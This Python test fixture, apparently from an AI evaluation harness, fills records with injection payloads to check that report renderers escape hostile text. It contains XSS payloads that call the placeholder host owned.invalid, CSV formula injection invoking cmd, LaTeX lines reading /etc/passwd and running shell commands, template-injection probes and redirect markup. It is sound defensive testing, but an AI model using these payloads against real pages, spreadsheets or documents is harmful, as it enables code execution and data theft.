"""A run in which every text that a model, a provider, a scenario or a configuration can choose is an attack.

Knows what is to be attacked: pages, Markdown, CSV, figures, and whoever parses them. A payload that is executed anywhere
sets `window.owned`, opens a dialog, or asks the host owned.invalid for something.
"""

from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

from big_run import Plan, manifest, records, vocabulary, write_run

from harness.types import EvalRecord, ParsedReply, Span, ToolCall

FIRE = "window.owned=1;alert(1);fetch('https://owned.invalid/')"
FIRING = (
    f"<script>{FIRE}</script>",
    f"</script><script>{FIRE}</script>",
    f'"><img src="https://owned.invalid/x.png" onerror="{FIRE}">',
    f"<svg onload=\"{FIRE}\"><use href='https://owned.invalid/x.svg#a'></use></svg>",
    f'</textarea></title></style></pre></code><details open ontoggle="{FIRE}">x</details>',
    f'<iframe srcdoc="<script>parent.owned=1;parent.alert(1)</script>"></iframe><b onclick="{FIRE}">b</b>',
)
"""Each of them, put into a page as it is, runs at once."""
INERT = (
    "]]> <!-- --> <!-- <script> ]]>",
    "{{7*7}} ${7*7} {% raw %} <%= 7*7 %> #{7*7} {{ ''.__class__.__mro__ }}",
    f"[x](javascript:{FIRE}) [y]: javascript:alert(1) <javascript:alert(1)> ![z](https://owned.invalid/z.png)",
    "| a | b |\n|---|---|\n| `code` ``` ~~~ \n\n# heading\n\n***\n- [ ] item\n> quote",
    "=cmd|' /C calc'!A0\n+1+1\n-2+3\n@SUM(1)\t=HYPERLINK(\"https://owned.invalid\")",
    "\\input{/etc/passwd} \\write18{id} $\\frac{1$ % & # _ ^ ~ {",
    "NUL \x00 bell \x07 escape \x1b[31m delete \x7f next line \x85 carriage\rreturn",
    "right-to-left \u202e gnp.exe \u202c isolate \u2066 \u2069 joiner \u200d\u200b\ufeff line\u2028separator\u2029",
    "half a pair \ud800 and the other \udc00 end",
    '<meta http-equiv="refresh" content="0;url=https://owned.invalid/"><base href="https://owned.invalid/">',
    '<link rel="stylesheet" href="https://owned.invalid/x.css"><style>@import "https://owned.invalid/y.css"</style>',
    '<form action="https://owned.invalid/"><input name="id" autofocus><button id="hits">go</button></form>',
    "&lt;script&gt; &#60;script&#62; %3Cscript%3E \\u003cscript\\u003e &amp;amp;",
    "__proto__ constructor toString hasOwnProperty",
    "combining Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L and 👩‍👩‍👧‍👦 wide ﷽",
)
ATTACKS = (*FIRING, *INERT)
LONG = "<b>" + "A" * 1_000_000
"""A megabyte on one line."""
LONG_AT = 7
"""The cell that replies so."""
ARMS = {
    "control": "control",
    "placebo": f"<img src=x onerror={FIRE}>",
    "mismatched": "$\\frac{mathtext$ _^{",
    "agent_status": "=cmd()|'\"`<b>bar</b>",
    "placebo_before": "__proto__",
    "agent_status_before": "constructor \u202e\x07 [x](javascript:alert(1))",
}
"""Names of the conditions; a configuration that somebody shares chooses them."""
PLAN = Plan(matched=2, prior_calls=1, filler=1, asked=1)


def attacked(record: EvalRecord, number: int) -> EvalRecord:
    """The record with the texts of its model, provider, scenario and configuration replaced."""
    text = ATTACKS[number % len(ATTACKS)]
    output, score = record.output, record.score
    target = f"{record.target} {ATTACKS[(number // 12) % len(ATTACKS)][:80]}"
    logs = None
    if output.choice_logprobs is not None:
        logs = {f"{label} {text}": value for label, value in output.choice_logprobs.items()}
    reply = LONG if number == LONG_AT else f"{text}\n{text}"
    output = replace(
        output,
        text="" if logs else reply,
        choice_logprobs=logs,
        error=None if output.error is None else f"503 {text}",
        usage=replace(output.usage, reported_reasoning_tokens=5, reported_reasoning_field=text),
    )
    return replace(
        record,
        cell_id=record.cell_id.replace(record.condition, ARMS[record.condition]),
        condition=ARMS[record.condition],
        scenario=f"xfinity {ATTACKS[0]}",
        cluster=f"{record.cluster} {ATTACKS[2]}",
        sample_id=f"{record.sample_id} {ATTACKS[1]}",
        target=target,
        phrasing=text,
        model=text,
        bar_text="" if record.bar == "none" else f"<agent_status>\n{text}\n</agent_status>",
        choices={f"{label} {text}": ids for label, ids in record.choices.items()},
        spans=tuple(replace(span, region=_region(span, number)) for span in record.spans),
        expectation=replace(record.expectation, tool=f"phone_call {text}", target=target, others=(text,)),
        tool_names=(text, "constructor"),
        output=output,
        parsed=None if record.parsed is None else _parsed(record.parsed, text),
        score=replace(score, top_choice=text, reason=f"talk: {text}"),
    )


def _region(span: Span, number: int) -> str:
    if span.region in ("system", "bar", "follow_up"):
        return span.region
    return ("constructor", f"call:{ATTACKS[number % len(ATTACKS)]}", f"result:{ATTACKS[0]}")[number % 3]


def _parsed(parsed: ParsedReply, text: str) -> ParsedReply:
    arguments: dict[str, Any] = {text: text, "__proto__": {"owned": 1}, "thinking_end_missing": True}
    return replace(
        parsed,
        reasoning=None if parsed.reasoning is None else f"{text} {text}",
        content=text,
        tool_calls=tuple(ToolCall(f"{call.name} {text}", arguments) for call in parsed.tool_calls),
        malformed_names=(text,),
        malformed_text=text,
    )


def pieces() -> dict[int, bytes]:
    """Token pieces: attacks whole and in halves, and bytes that are no UTF-8."""
    found = vocabulary()
    broken = [
        b"\xff\xfe\xc0\x80",
        b"\xe2\x82",
        b"\xed\xa0\x80",
        b"\x00",
        b"</scr",
        f"ipt><script>{FIRE}</script>".encode(),
    ]
    for number, raw in enumerate([*broken, *(text.encode("utf-8", "surrogatepass") for text in ATTACKS)]):
        for again in range(3):
            found[97 * number + 31 * again] = raw
    return found


def hostile_records() -> Iterator[EvalRecord]:
    """The cells of the run."""
    for number, record in enumerate(records(PLAN)):
        yield attacked(record, number)


def hostile_run(folder: Path) -> Path:
    """The run in `folder`, written through the run log's columns."""
    about = manifest(
        PLAN.cells,
        run_id=ATTACKS[1],
        experiment=f"{ATTACKS[0]} {INERT[2]}",
        model={"name": FIRING[2], "source": INERT[1], "sha256": FIRING[3], "revision": INERT[7]},
        conditions=[
            entry
            | {"name": ARMS[entry["name"]]}
            | ({"placebo_of": ARMS[entry["placebo_of"]]} if "placebo_of" in entry else {})
            for entry in manifest(0)["conditions"]
        ],
        left_out=[ATTACKS[0], INERT[2]],
        packages={FIRING[0]: INERT[3]},
        git={"revision": FIRING[4], "dirty": True},
        config={"seed": FIRING[5], ATTACKS[0]: list(ATTACKS)},
        platform=INERT[5],
    )
    return write_run(folder, hostile_records(), about, pieces())
